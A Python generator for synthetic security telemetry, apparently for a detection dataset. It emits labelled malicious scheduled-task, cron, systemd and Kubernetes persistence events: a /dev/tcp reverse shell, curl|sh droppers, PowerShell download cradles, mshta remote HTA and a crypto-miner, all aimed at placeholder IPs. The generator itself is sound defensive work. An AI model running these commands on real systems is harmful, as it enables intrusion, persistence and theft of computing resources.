def rand_letters(*parts, n=8, upper_first=False):
    h = det_hex(*parts, n=2 * n)
    s = "".join("abcdefghijklmnopqrstuvwxyz"[int(h[2 * i:2 * i + 2], 16) % 26] for i in range(n))
    return s.capitalize() if upper_first else s


def m_qakbot(host, day):
    """Qakbot-style: loader DLL (rundll32) copies itself under AppData\\Roaming\\Microsoft\\<random>\\ and
    creates a SYSTEM task that re-launches it with regsvr32 -s."""
    u = prim(host)
    t = at(day, rng.randrange(9, 16), rng.randrange(60))
    folder = rand_letters("qbotdir", host, n=9, upper_first=True)
    dll = "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\%s\\%s.dll" % (u, folder, rand_letters("qbotdll", host, n=7))
    tn = rand_letters("qbottn", host, n=8)
    sc = "Qakbot-style persistence on %s: SYSTEM task runs regsvr32 -s on a DLL in AppData\\Roaming\\Microsoft\\%s" % (host, folder)
    loader = "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.dat" % (u, rand_letters("qbotld", host, n=6))
    cmd = ('schtasks.exe /Create /RU "NT AUTHORITY\\SYSTEM" /tn %s /tr "regsvr32.exe -s \\"%s\\"" /SC HOURLY /MO 6 /F'
           % (tn, dll))
    emit(proc(host, t, duser(u), SCHT, cmd, "C:\\Windows\\SysWOW64\\rundll32.exe",
              'rundll32.exe "%s",Wind' % loader), bad(sc))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\" + tn, [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT6H")],
                 "regsvr32.exe", '-s "%s"' % dll, user_id="S-1-5-18", logon_type="ServiceAccount")
    emit(task4698(host, later(t), duser(u), "\\" + tn, x), bad(sc))
    for k in range(2):
        emit(scheduled_run(host, t + timedelta(hours=6 * (k + 1), seconds=rng.randrange(3, 40)), SYSTEM,
                           "C:\\Windows\\SysWOW64\\regsvr32.exe", 'regsvr32.exe -s "%s"' % dll, integrity="system"),
             bad("Qakbot-style task on %s executes regsvr32 -s on the AppData DLL" % host))


def m_emotet(host, day, task_name):
    """Emotet-style maldoc: cmd (child of EXCEL) registers a vendor-looking task that runs rundll32 on a DLL in a
    random ProgramData folder every 45 minutes."""
    u = prim(host)
    t = at(day, rng.randrange(9, 16), rng.randrange(60))
    folder = rand_letters("emodir", host, n=8, upper_first=True)
    dll = "C:\\ProgramData\\%s\\%s.ocx" % (folder, rand_letters("emodll", host, n=6))
    sc = "Emotet-style maldoc on %s: task '%s' runs rundll32 on ProgramData\\%s DLL" % (host, task_name, folder)
    cmd = 'schtasks /create /tn "%s" /tr "rundll32.exe %s,DllRegisterServer" /sc minute /mo 45 /f' % (task_name, dll)
    emit(proc(host, t, duser(u), SCHT, cmd, CMD, "cmd /c " + cmd, integrity="medium"), bad(sc))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\" + task_name, [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT45M")],
                 "rundll32.exe", "%s,DllRegisterServer" % dll, user_id=usid(u), logon_type="InteractiveToken")
    emit(task4698(host, later(t), duser(u), "\\" + task_name, x), bad(sc))
    for k in range(2):
        emit(scheduled_run(host, t + timedelta(minutes=45 * (k + 1), seconds=rng.randrange(1, 30)), duser(u),
                           "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe %s,DllRegisterServer" % dll),
             bad("Emotet-style task on %s runs rundll32 on the ProgramData DLL" % host))


def m_fake_update():
    """SocGholish-style fake browser update: a JScript registers a task through COM, then the dropped 'updater' in
    C:\\Users\\Public creates Google/Edge-named tasks, one of them an encoded PowerShell cradle."""
    host, u = "lap-exec-02", "hwalker"
    t0 = at(9, 14, 7)
    js = "C:\\Users\\%s\\Downloads\\Chrome.Update.b7e41c.js" % u
    pub = "C:\\Users\\Public\\GoogleUpdate"
    sc0 = "Fake Chrome update (JScript in Downloads) registers a GoogleUpdate-named task via COM"
    emit(dict(kind="script_task", host=host, time=t0, user=duser(u), image="C:\\Windows\\System32\\wscript.exe",
              cmdline='"C:\\Windows\\System32\\WScript.exe" "%s"' % js, pid=win_pid(),
              parent_image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
              task_key=det_guid_braced("fakeupd")), bad(sc0))
    g = "{4A8C1F2E-93B1-4C5B-9E21-6D0F7A3B8C11}"
    tn0 = "\\GoogleUpdateTaskMachineCore" + g
    x0 = task_xml(t0, None, tn0, [trig_logon("%s\\%s" % (NETBIOS, u))], pub + "\\GoogleUpdate.exe", "/c",
                  user_id=usid(u), logon_type="InteractiveToken",
                  description="Keeps your Google software up to date.")
    emit(task4698(host, later(t0, 200, 700), duser(u), tn0, x0), bad(sc0))
    t1 = t0 + timedelta(minutes=6, seconds=31)
    upd = pub + "\\GoogleUpdate.exe"
    sc1 = "Fake updater in Users\\Public creates onlogon SYSTEM task named like Google Update"
    cmd1 = ('schtasks /create /tn "GoogleUpdateTaskMachineUA%s" /tr "%s /ua" /sc onlogon /ru SYSTEM /rl highest /f'
            % (g, upd))
    emit(proc(host, t1, duser(u), SCHT, cmd1, upd, '"%s" /install' % upd, parent_trusted=False, parent_signer=None),
         bad(sc1))
    x1 = task_xml(t1, "%s\\%s" % (NETBIOS, u), "\\GoogleUpdateTaskMachineUA" + g, [trig_logon()], upd, "/ua",
                  user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, later(t1), duser(u), "\\GoogleUpdateTaskMachineUA" + g, x1), bad(sc1))
    t2 = t1 + timedelta(seconds=44)
    enc = ps_enc("$w=New-Object Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;"
                 "IEX $w.DownloadString('https://203.0.113.118/edge/update.ps1')")
    sc2 = "Fake updater creates hourly 'MicrosoftEdgeUpdateTaskMachineUA' task running an encoded PowerShell cradle"
    cmd2 = ('schtasks /create /tn "MicrosoftEdgeUpdateTaskMachineUA" /tr "powershell.exe -nop -w hidden -enc %s" '
            '/sc hourly /f' % enc)
    emit(proc(host, t2, duser(u), SCHT, cmd2, upd, '"%s" /install' % upd, parent_trusted=False, parent_signer=None),
         bad(sc2))
    x2 = task_xml(t2, "%s\\%s" % (NETBIOS, u), "\\MicrosoftEdgeUpdateTaskMachineUA",
                  [trig_repeat(boundary(t2, t2.hour, t2.minute, 0), "PT1H")], "powershell.exe",
                  "-nop -w hidden -enc " + enc, user_id=usid(u), logon_type="InteractiveToken")
    emit(task4698(host, later(t2), duser(u), "\\MicrosoftEdgeUpdateTaskMachineUA", x2), bad(sc2))


def m_mshta():
    host, u = "lap-legal-02", "gricci"
    t = at(10, 11, 23)
    sc = "ISO/LNK phishing on lap-legal-02: daily task runs mshta against a remote HTA"
    url = "http://198.51.100.45/docs/view.hta"
    cmd = 'schtasks /create /sc daily /tn "OneDriveUpdateSync" /tr "mshta.exe %s" /st 09:15 /f' % url
    emit(proc(host, t, duser(u), SCHT, cmd, CMD,
              'C:\\Windows\\system32\\cmd.exe /c %s' % cmd, integrity="medium"), bad(sc))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\OneDriveUpdateSync", [trig_daily(boundary(t, 9, 15))], "mshta.exe", url,
                 user_id=usid(u), logon_type="InteractiveToken")
    emit(task4698(host, later(t), duser(u), "\\OneDriveUpdateSync", x), bad(sc))
    for d in (11, 12):
        emit(scheduled_run(host, at(d, 9, 15, rng.randrange(0, 9)), duser(u), "C:\\Windows\\System32\\mshta.exe",
                           '"C:\\Windows\\system32\\mshta.exe" %s' % url, original="MSHTA.EXE"),
             bad("OneDriveUpdateSync task on lap-legal-02 runs mshta against %s" % url))


def m_lateral():
    """A compromised support user moves laterally with schtasks /s, then atexec, then with stolen admin creds."""
    src, u = "lap-sup-04", "jmorales"
    base = at(11, 21, 40)
    for i, target in enumerate(("app-erp-01", "fs-01", "sql-01")):
        t = base + timedelta(minutes=7 * i, seconds=rng.randrange(60))
        tn = "\\Microsoft\\Windows\\WDI\\SrvHealthProbe"
        sc = "Compromised support account %s: remote schtasks /s to %s (Windows\\Temp payload as SYSTEM)" % (u, target)
        cmd = ('schtasks /create /s %s /u %s\\%s /p ******** /tn "%s" /tr "C:\\Windows\\Temp\\wdiprobe.exe" /sc once '
               '/st 02:00 /ru SYSTEM /f' % (target, NETBIOS, u, tn))
        emit(proc(src, t, duser(u), SCHT, cmd, CMD, '"C:\\Windows\\system32\\cmd.exe" '), bad(sc))
        x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, [trig_once(boundary(t, 2, 0))], "C:\\Windows\\Temp\\wdiprobe.exe",
                     user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
        emit(task4698(target, later(t, 500, 1400), duser(u), tn, x, remote=True), bad(sc))
        emit(proc(src, t + timedelta(seconds=rng.randrange(20, 70)), duser(u), SCHT,
                  'schtasks /run /s %s /tn "%s"' % (target, tn), CMD, '"C:\\Windows\\system32\\cmd.exe" '),
             bad("Compromised support account: starts the remote task on %s at once (/run /s)" % target))
    for j, (target, recon) in enumerate((("sql-02", "tasklist /v"), ("print-01", "net localgroup administrators"))):
        t = base + timedelta(minutes=40 + 9 * j, seconds=rng.randrange(60))
        name = "\\" + "".join(c if k % 2 else c.upper() for k, c in enumerate(rand_letters("atexec", target, n=8)))
        sc = "atexec-style remote task on %s (random name, output to Windows\\Temp, deleted within seconds)" % target
        x = task_xml(t, None, name, [trig_once("2015-07-15T20:35:13")], "cmd.exe",
                     "/C %s > C:\\Windows\\Temp\\%s.tmp 2>&1" % (recon, name[1:]), user_id="S-1-5-18",
                     logon_type=None, run_level="HighestAvailable", principal_id="LocalSystem")
        c = task4698(target, t, duser(u), name, x, remote=True)
        emit(dict(c), bad(sc))
        d = task4698(target, t + timedelta(seconds=rng.randrange(3, 9)), duser(u), name, x, remote=True, code=4699)
        emit(dict(kind="tmp_task", host=target, time=d["time"], created=c, deleted=d), bad(sc))
    # stolen admin credentials, used from the same (non-management) workstation
    t = at(12, 1, 12)
    tn = "\\Contoso\\CMCacheMaintenance"
    enc = ps_enc("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((irm http://198.51.100.23/c.txt)));"
                 "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
    sc = "Stolen adm_okim credentials used from lap-sup-04 (not a jump host): boot task with encoded PowerShell on cm-site-01"
    cmd = ('schtasks /create /s cm-site-01 /u %s\\adm_okim /p ******** /tn "%s" /tr "powershell.exe -NoP -W Hidden '
           '-EncodedCommand %s" /sc onstart /ru SYSTEM /f' % (NETBIOS, tn, enc))
    emit(proc(src, t, duser("adm_okim"), SCHT, cmd, CMD, '"C:\\Windows\\system32\\cmd.exe" '), bad(sc))
    x = task_xml(t, "%s\\adm_okim" % NETBIOS, tn, [trig_boot()], "powershell.exe", "-NoP -W Hidden -EncodedCommand " + enc,
                 user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698("cm-site-01", later(t, 500, 1400), duser("adm_okim"), tn, x, remote=True), bad(sc))


def m_iis_hidden():
    host = "web-iis-01"
    t = at(14, 3, 41)
    sc = "web-iis-01 webshell (w3wp -> cmd, after potato privesc): hidden task imported from XML in Windows\\Temp"
    tn = "\\Microsoft\\Windows\\UPnP\\UPnPHostConfigSync"
    cmd = 'schtasks /create /xml C:\\Windows\\Temp\\upnp.xml /tn "%s" /ru SYSTEM /f' % tn
    emit(proc(host, t, SYSTEM, SCHT, cmd, CMD, 'cmd.exe /c "cd /d c:\\windows\\temp&%s"' % cmd, integrity="system"), bad(sc))
    x = task_xml(t, "Microsoft Corporation", tn, [trig_boot(), trig_repeat(boundary(t, 3, 45, 0), "PT30M")], "cmd.exe",
                 "/c C:\\Windows\\Temp\\upnphost\\svchost.exe -k UPnP", user_id="S-1-5-18", logon_type="ServiceAccount",
                 run_level="HighestAvailable", hidden=True)
    emit(task4698(host, later(t), machine(host), tn, x), bad(sc))


def m_gpo_abuse():
    """adm_tpetrov's password (phished) is used from a support laptop to add an immediate task to a workstation GPO."""
    t = at(15, 2, 17)
    rel, full = gpo_paths(GPO_WKS_MAINT)
    ip = HOSTS["lap-sup-04"]["ip"]
    sc = "GPO abuse: Workstation-Maintenance ScheduledTasks.xml written from %s (lap-sup-04) with adm_tpetrov credentials" % ip
    emit(share5145("cl-dc01", t, duser("adm_tpetrov"), ip, rel), bad(sc))
    emit(wfile("cl-dc01", later(t, 20, 80), duser("adm_tpetrov"), full, None, pid=4), bad(sc))
    url = "http://%s:8080/s" % ip
    for i, h in enumerate(rng.sample([w for w in WKS if w != "lap-sup-04"], 8)):
        tt = t + timedelta(minutes=rng.randrange(20, 110), seconds=rng.randrange(60))
        x = task_xml(tt, "%s\\adm_tpetrov" % NETBIOS, "\\Contoso-HealthCheck", [trig_once(boundary(tt, 0, 0, 0))],
                     "powershell.exe", "-nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('%s')\"" % url,
                     user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
        emit(task4698(h, tt, machine(h), "\\Contoso-HealthCheck", x),
             bad("GPO abuse: malicious immediate task Contoso-HealthCheck lands on %s (download cradle)" % h))


def m_web_rce():
    host = "lnx-web-02"
    t = at(4, 1, 52)
    stage = "/tmp/.font-unix"
    sc1 = "lnx-web-02 PHP RCE: www-data installs a crontab from %s" % stage
    emit(lfile(host, t, "www-data", "/var/spool/cron/crontabs/www-data", "/usr/bin/crontab", "crontab %s/ct" % stage,
               "/usr/bin/dash", "sh -c crontab %s/ct" % stage, action="rename"), bad(sc1))
    for k in range(3):
        emit(lproc(host, at(4 + k, 3, 0, 2), "www-data", "/usr/bin/crontab", "crontab %s/ct" % stage, "/usr/sbin/cron",
                   "/usr/sbin/cron -f -P"),
             bad("lnx-web-02 RCE: www-data cron watchdog re-installs its crontab from /tmp"))
    t2 = t + timedelta(minutes=37, seconds=12)
    payload = "* * * * * root /bin/bash -c 'sh -i >& /dev/tcp/203.0.113.61/443 0>&1'"
    cmd = 'sh -c echo "%s" > /etc/cron.d/.sysstat-collect' % payload
    sc2 = "lnx-web-02 after privesc: reverse-shell cron file /etc/cron.d/.sysstat-collect"
    emit(lproc(host, t2, "root", "/usr/bin/dash", cmd, stage + "/pkexec-x", stage + "/pkexec-x"), bad(sc2))
    emit(lfile(host, later(t2, 5, 30), "root", "/etc/cron.d/.sysstat-collect", "/usr/bin/dash", cmd,
               stage + "/pkexec-x"), bad(sc2))
    t3 = t2 + timedelta(minutes=3, seconds=50)
    sc3 = "lnx-web-02 after privesc: systemd service+timer copied from /tmp (curl|sh every 15 min)"
    unit = "systemd-journal-flushd"
    for ext in ("service", "timer"):
        emit(lfile(host, t3 + timedelta(milliseconds=4 if ext == "timer" else 0), "root",
                   "/etc/systemd/system/%s.%s" % (unit, ext), "/usr/bin/cp",
                   "cp %s/%s.service %s/%s.timer /etc/systemd/system/" % (stage, unit, stage, unit), "/usr/bin/dash"),
             bad(sc3))
    emit(lproc(host, t3 + timedelta(seconds=2), "root", "/usr/bin/systemctl", "systemctl enable --now %s.timer" % unit,
               "/usr/bin/dash", "sh -c systemctl daemon-reload; systemctl enable --now %s.timer" % unit), bad(sc3))


def m_ssh_miner(host, day):
    t = at(day, rng.randrange(1, 5), rng.randrange(60))
    url = "http://203.0.113.150/ldr.sh"
    line = "*/10 * * * * root (curl -fsSL %s || wget -q -O- %s) | sh" % (url, url)
    cmd = "bash -c echo '%s' > /etc/cron.d/0systemhealth" % line
    sc = "SSH brute-force miner on %s: curl|sh dropper cron file /etc/cron.d/0systemhealth" % host
    emit(lproc(host, t, "root", "/usr/bin/bash", cmd, "/usr/bin/bash", "bash -s"), bad(sc))
    emit(lfile(host, later(t, 5, 30), "root", "/etc/cron.d/0systemhealth", "/usr/bin/bash", cmd, "/usr/bin/bash",
               "bash -s"), bad(sc))
    t2 = t + timedelta(seconds=rng.randrange(5, 20))
    spool = "/var/spool/cron/crontabs/root" if HOSTS[host]["family"] != "rocky" else "/var/spool/cron/root"
    sc2 = "SSH brute-force miner on %s: root crontab replaced with @reboot curl|sh" % host
    emit(lproc(host, t2, "root", "/usr/bin/crontab", "crontab -l", "/usr/bin/bash",
               "bash -c (crontab -l 2>/dev/null; echo '@reboot (curl -fsSL %s||wget -q -O- %s)|sh') | crontab -" % (url, url)),
         bad(sc2))
    emit(lfile(host, later(t2, 20, 90), "root", spool, "/usr/bin/crontab", "crontab -", "/usr/bin/bash", "bash -c",
               action="rename"), bad(sc2))


def m_k8s_token():
    ua = "kubectl/v1.29.2 (windows/amd64) kubernetes/4b8e819"
    for i, (ns, name) in enumerate((("kube-system", "kube-proxy-healthz"), ("default", "log-rotate"),
                                    ("monitoring", "node-exporter-sync"))):
        emit(k8s(at(17, 2, 31 + 6 * i), RUNNER_SA, "198.51.100.77", ua, ns, name, "*/3 * * * *",
                 "docker.io/c0ntainr/xmrig:6.22.2", ["/xmrig", "-o", "stratum+tcp://203.0.113.99:3333", "--donate-level=0"],
                 RUNNER_GROUPS),
             bad("Stolen gitlab-runner SA token: miner CronJob %s/%s created from 198.51.100.77" % (ns, name)))


def m_atomic_windows():
    host, u = "lap-eng-06", "tnguyen"
    base = at(18, 14, 2)
    sc = "Unsanctioned Atomic Red Team run on lap-eng-06 (%s)"
    tests = [
        ("T1053.005-1", 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"',
         "\\T1053_005_OnLogon", [trig_logon()], "cmd.exe", "/c calc.exe", usid(u), "InteractiveToken"),
        ("T1053.005-1", 'schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"',
         "\\T1053_005_OnStartup", [trig_boot()], "cmd.exe", "/c calc.exe", "S-1-5-18", "ServiceAccount"),
        ("T1053.005-2", "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10",
         "\\spawn", None, "C:\\windows\\system32\\cmd.exe", None, usid(u), "InteractiveToken"),
        ("T1053.005-7", 'schtasks.exe /Create /F /TN "ATOMIC-T1053.005" /TR "cmd /c start /min \\"\\" powershell.exe '
                        '-Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('
                        '(Get-ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))" /sc daily /st 07:45',
         "\\ATOMIC-T1053.005", None, "cmd", '/c start /min "" powershell.exe -Command IEX([System.Text.Encoding]::ASCII.'
         'GetString([System.Convert]::FromBase64String((Get-ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))',
         usid(u), "InteractiveToken"),
    ]
    t = base
    for tid, cmd, tn, trig, c, a, uid, lt in tests:
        t = t + timedelta(seconds=rng.randrange(8, 40), milliseconds=rng.randrange(900))
        pc = '"C:\\Windows\\system32\\cmd.exe" /c ' + cmd
        if tid == "T1053.005-7":
            pc = ('"C:\\Windows\\system32\\cmd.exe" /c reg add HKCU\\SOFTWARE\\ATOMIC-T1053.005 /v test /t REG_SZ /d '
                  'cGluZyAxMjcuMC4wLjE= /f & ' + cmd)
        emit(proc(host, t, duser(u), SCHT, cmd, CMD, pc), bad(sc % tid))
        if trig is None:
            trig = [trig_once(boundary(t, 20, 10, 0))] if tn == "\\spawn" else [trig_daily(boundary(t, 7, 45))]
        x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, trig, c, a, user_id=uid, logon_type=lt)
        emit(task4698(host, later(t), duser(u), tn, x), bad(sc % tid))
    # T1053.005-4 and -9: PowerShell cmdlets (script host loads taskschd.dll)
    t = t + timedelta(seconds=51)
    ps4 = ('"%s" & {$Action = New-ScheduledTaskAction -Execute "calc.exe"; $Trigger = New-ScheduledTaskTrigger -AtLogon; '
           '$User = New-ScheduledTaskPrincipal -GroupId "BUILTIN\\Administrators" -RunLevel Highest; '
           '$Set = New-ScheduledTaskSettingsSet; $object = New-ScheduledTask -Action $Action -Principal $User '
           '-Trigger $Trigger -Settings $Set; Register-ScheduledTask AtomicTask -InputObject $object}' % PS)
    emit(dict(kind="script_task", host=host, time=t, user=duser(u), image=PS, cmdline=ps4, pid=win_pid(),
              parent_image=PS, task_key=det_guid_braced("atomic4")), bad(sc % "T1053.005-4"))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\AtomicTask", [trig_logon()], "calc.exe", None, group_id="S-1-5-32-544",
                 run_level="HighestAvailable")
    emit(task4698(host, later(t), duser(u), "\\AtomicTask", x), bad(sc % "T1053.005-4"))
    t = t + timedelta(seconds=37)
    ps9 = ('"%s" & {$Action = New-ScheduledTaskAction -Execute "cmd.exe"; $Trigger = New-ScheduledTaskTrigger -AtLogon; '
           '$User = New-ScheduledTaskPrincipal -GroupId "BUILTIN\\Administrators" -RunLevel Highest; '
           '$Set = New-ScheduledTaskSettingsSet; $object = New-ScheduledTask -Action $Action -Principal $User '
           '-Trigger $Trigger -Settings $Set; Register-ScheduledTask AtomicTaskModifed -InputObject $object; '
           '$NewAction = New-ScheduledTaskAction -Execute "Notepad.exe"; Set-ScheduledTask "AtomicTaskModifed" '
           '-Action $NewAction}' % PS)
    emit(dict(kind="script_task", host=host, time=t, user=duser(u), image=PS, cmdline=ps9, pid=win_pid(),
              parent_image=PS, task_key=det_guid_braced("atomic9")), bad(sc % "T1053.005-9"))
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\AtomicTaskModifed", [trig_logon()], "cmd.exe", None,
                 group_id="S-1-5-32-544", run_level="HighestAvailable")
    emit(task4698(host, later(t), duser(u), "\\AtomicTaskModifed", x), bad(sc % "T1053.005-9"))
    x2 = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\AtomicTaskModifed", [trig_logon()], "Notepad.exe", None,
                  group_id="S-1-5-32-544", run_level="HighestAvailable")
    emit(task4698(host, later(t, 700, 1500), duser(u), "\\AtomicTaskModifed", x2, code=4702), bad(sc % "T1053.005-9"))
    # T1053.007-2 from the same laptop: kubectl create -f src/cronjob.yaml
    emit(k8s(t + timedelta(minutes=4), "oidc:tnguyen@%s" % DOMAIN, HOSTS[host]["ip"],
             "kubectl/v1.31.2 (windows/amd64) kubernetes/5864a46", "default", "art", "*/1 * * * *", "busybox",
             ["/bin/sh", "-c", "echo Art"], "oidc:k8s-developers\nsystem:authenticated"),
         bad(sc % "T1053.007-2"))


def m_atomic_linux():
    host = "lnx-ci-01"
    t = at(18, 15, 11)
    art = ("/usr/bin/sh", "sh -c")
    sc = "Unsanctioned Atomic Red Team run on lnx-ci-01 (%s)"
    c1 = 'crontab -l > /tmp/notevil; echo "* * * * * /tmp/evil.sh" > /tmp/persistevil && crontab /tmp/persistevil'
    emit(lproc(host, t, "root", "/usr/bin/crontab", "crontab -l", art[0], "sh -c " + c1), bad(sc % "T1053.003-1"))
    emit(lfile(host, later(t, 30, 120), "root", "/var/spool/cron/crontabs/root", "/usr/bin/crontab",
               "crontab /tmp/persistevil", art[0], "sh -c " + c1, action="rename"), bad(sc % "T1053.003-1"))
    t2 = t + timedelta(seconds=rng.randrange(20, 50))
    cmd = "echo \"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\" > /etc/cron.%s/persistevil"
    allc = "; ".join(cmd % p for p in ("daily", "hourly", "monthly", "weekly"))
    emit(lproc(host, t2, "root", "/usr/bin/sh", "sh -c " + allc, "/opt/microsoft/powershell/7/pwsh",
               "pwsh -NoProfile -Command Invoke-AtomicTest T1053.003 -TestNumbers 2"), bad(sc % "T1053.003-2"))
    for k, p in enumerate(("daily", "hourly", "monthly", "weekly")):
        emit(lfile(host, t2 + timedelta(milliseconds=3 + 2 * k), "root", "/etc/cron.%s/persistevil" % p, "/usr/bin/sh",
                   "sh -c " + allc, "/opt/microsoft/powershell/7/pwsh"), bad(sc % "T1053.003-2"))
    t3 = t2 + timedelta(seconds=rng.randrange(20, 50))
    sc3 = sc % "T1053.006-1"
    for ext in ("service", "timer"):
        emit(lfile(host, t3 + timedelta(milliseconds=5 if ext == "timer" else 0), "root",
                   "/etc/systemd/system/art-timer.%s" % ext, "/usr/bin/sh",
                   "sh -c echo \"[Unit]\" > /etc/systemd/system/art-timer.%s" % ext, "/opt/microsoft/powershell/7/pwsh"),
             bad(sc3))
    for verb in ("start", "enable"):
        emit(lproc(host, t3 + timedelta(seconds=1), "root", "/usr/bin/systemctl", "systemctl %s art-timer.timer" % verb,
                   "/usr/bin/sh", "sh -c systemctl start art-timer.timer; systemctl enable art-timer.timer; "
                   "systemctl daemon-reload"), bad(sc3))
    t4 = t3 + timedelta(seconds=rng.randrange(20, 50))
    sc4 = sc % "T1053.002-2"
    emit(lproc(host, t4, "root", "/usr/bin/at", "at now + 1 minute", "/usr/bin/sh",
               'sh -c echo "echo Hello from Atomic Red Team" | at now + 1 minute'), bad(sc4))
    emit(lfile(host, later(t4, 10, 50), "root", "/var/spool/cron/atjobs/a0000b01d7e3c9", "/usr/bin/at",
               "at now + 1 minute", "/usr/bin/sh"), bad(sc4))


# ----------------------------------------------------------------------------------------------
# Scenario plan (21 days, 2027-02-01 .. 2027-02-21; Patch Tuesday = day 8)
# ----------------------------------------------------------------------------------------------

def build_events():
    wd = weekdays()

    def spread(hosts, days=None):
        days = days or wd
        return [(h, rng.choice(days)) for h in hosts]

    def pick(pool, k):
        return sorted(rng.sample(pool, k), key=pool.index)

    def grp(prefix):
        return [h for h in WKS if h.startswith(prefix)]

    hp = [h for h in WKS if HOSTS[h]["vendor"] == "hp"]
    dell = [h for h in WKS if HOSTS[h]["vendor"] == "dell"]
    not_lab = [h for h in WKS if not h.startswith("desk-lab")]

    # --- vendor software (workstations)
    for h, d in spread(pick(not_lab, 14)):
        b_brave(h, d)
    for h, d in spread(pick(grp("lap-eng") + grp("lap-it") + grp("desk-lab"), 6)):
        b_edge_machine(h, d)
    for h, d in spread(pick(grp("lap-eng"), 6)):
        b_nvidia(h, d)
    for h, d in spread(grp("desk-lab") + ["desk-fin-01", "desk-fin-03"]):
        b_amd(h, d)
    for h, d in spread(pick(grp("lap-sales") + grp("lap-legal") + grp("lap-exec"), 7)):
        b_adobe(h, d)
    refresh = pick(WKS, 9)                      # hardware refresh: new profiles in week 1
    for h, d in spread(refresh, wd[:5]):
        b_office_bth(h, d)
        b_onedrive_new(h, d)
    for h, d in spread(pick(WKS, 26), wd[6:12]):  # OneDrive client ring update in week 2-3
        b_onedrive_update(h, d)
    for h, d in spread(pick(dell, 7)):
        b_intel_dsa(h, d)
    for h, d in spread(pick(hp, 6)):
        b_hpsa(h, d)

    # --- management tools
    for h, d in spread(pick(WKS, 22), wd[5:10]):       # ConfigMgr app rollout, week 2
        b_psadt_xml(h, d)
    for h, d in spread(pick(WKS, 10), wd[:4]):         # Intune app, week 1
        b_intune_vpn(h, d, sorted(set(rng.sample([x for x in wd if x > d], 2))))
    for h in pick(WIN_SERVERS, 8):
        b_me_reboot(h, PATCH_TUESDAY + 1)
    for h in pick(WIN_SERVERS, 2):
        b_me_reboot(h, 16)                             # out-of-band patch, week 3
    pdq_targets = pick(WKS, 9)
    for i, h in enumerate(pdq_targets):
        b_pdq(h, rng.choice(wd), PDQ_PKGS[i % len(PDQ_PKGS)])
    for h, d in spread(pick(WKS + ["rds-01"], 6), [5, 12, 19]):
        b_agent_msi_run(h, d)

    # --- admin work (small admin group, jump hosts)
    b_jump_create("sql-01", rng.choice(wd[:5]), "adm_okim", "sqlcopy")
    b_jump_create("sql-02", rng.choice(wd[:5]), "adm_okim", "sqlcopy")
    for h, adm in (("web-iis-01", "adm_rvasquez"), ("app-erp-01", "adm_tpetrov"), ("app-erp-02", "adm_tpetrov")):
        b_jump_create(h, rng.choice(wd), adm, "iislog")
    for h, adm, tn in (("sql-01", "adm_okim", "\\Contoso\\SQLBackupCopy"), ("sql-02", "adm_okim", "\\Contoso\\SQLBackupCopy"),
                       ("sql-02", "adm_rvasquez", "\\Contoso\\SQLBackupCopy"), ("web-iis-01", "adm_rvasquez", "\\Contoso\\IISLogCleanup"),
                       ("app-erp-01", "adm_tpetrov", "\\Contoso\\IISLogCleanup"), ("fs-01", "adm_tpetrov", "\\Contoso\\LogRetention")):
        b_jump_run(h, rng.choice(wd), adm, tn)
    for h, adm, tn in (("sql-01", "adm_okim", "\\Contoso\\DBMaintenance-IndexRebuild"),
                       ("app-erp-02", "adm_tpetrov", "\\Contoso\\IISLogCleanup"),
                       ("fs-01", "adm_rvasquez", "\\Contoso\\LogRetention"),
                       ("sql-02", "adm_okim", "\\Contoso\\DBMaintenance-IndexRebuild"),
                       ("print-01", "adm_rvasquez", "\\Contoso\\LogRetention")):
        b_admin_local_run(h, rng.choice(wd), adm, tn)
    for h in ("sql-01", "sql-02", "app-erp-01"):
        b_admin_ps_register(h, rng.choice(wd[:8]), "adm_okim")
    for h in ("fs-01", "print-01", "app-erp-01", "app-erp-02"):
        for d in (6, 13, 20):                          # Sundays
            b_forfiles_run(h, d)
    for dc, d, adm, gpo in (("cl-dc01", 2, "adm_rvasquez", GPO_WKS_MAINT), ("cl-dc02", 7, "adm_tpetrov", GPO_SRV_BASE),
                            ("cl-dc01", 10, "adm_rvasquez", GPO_WKS_MAINT), ("cl-dc01", 17, "adm_tpetrov", GPO_SRV_BASE)):
        b_gpo_edit(dc, d, adm, gpo)
    for h, d in spread(pick(WKS, 30), [3, 4, 5]):      # the GPP inventory task applies after the day-2 edit
        b_gpp_task(h, d)

    # --- Linux
    deb_pk = {"ubuntu": [("logrotate_3.19.0-1ubuntu1.2_amd64.deb", "/etc/cron.daily/logrotate"),
                         ("man-db_2.10.2-1ubuntu0.1_amd64.deb", "/etc/cron.daily/man-db"),
                         ("apt_2.4.13_amd64.deb", "/etc/cron.daily/apt-compat"),
